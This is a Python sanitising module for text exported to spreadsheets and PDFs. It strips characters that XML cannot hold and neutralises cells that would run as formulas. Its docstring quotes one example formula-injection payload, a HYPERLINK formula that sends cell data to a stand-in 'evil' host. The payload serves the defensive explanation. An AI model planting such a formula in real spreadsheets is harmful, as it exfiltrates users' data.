"""Text written into a document by its users, made safe for the file formats and for
spreadsheet programs.

Control characters: XML 1.0 (so XLSX) cannot hold most of them (openpyxl refuses the
whole workbook), and a PDF font has no glyph for them. Text pasted from a word processor
carries them: Word writes a manual line break as a vertical tab.

Formulas: a spreadsheet program runs a cell whose text starts with ``=``, ``+``, ``-`` or ``@``
(and, in some programs, a tab or a carriage return) as a formula: a reason for deviation
such as ``=HYPERLINK("https://evil/?"&B12,"see")`` would send the sheet's figures away
when clicked ("formula injection", OWASP's "CSV injection").
"""

from __future__ import annotations

import re

# Line breaks of word processors (vertical tab, form feed), shown as line breaks.
LINE_BREAKS = re.compile("[\x0b\x0c]")
# What else XML 1.0 forbids: C0 controls but tab, line feed and carriage return; lone
# surrogates; U+FFFE and U+FFFF. A superset of openpyxl's ILLEGAL_CHARACTERS_RE.
NOT_IN_XML = re.compile("[\x00-\x08\x0e-\x1f\ud800-\udfff\ufffe\uffff]")

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
# OWASP's remedy for delimited files: a leading single quote, which spreadsheet programs
# read as "this cell is text" and do not show.
TEXT_MARK = "'"


def printable(text: str) -> str:
    """The text with word processors' line breaks as line feeds and the characters that
    XML cannot hold removed."""
    return NOT_IN_XML.sub("", LINE_BREAKS.sub("\n", text))


def looks_like_formula(text: str) -> bool:
    return text.startswith(FORMULA_PREFIXES)


def inert(text: str) -> str:
    """The text with a leading single quote when a spreadsheet program would run it."""
    return TEXT_MARK + text if looks_like_formula(text) else text
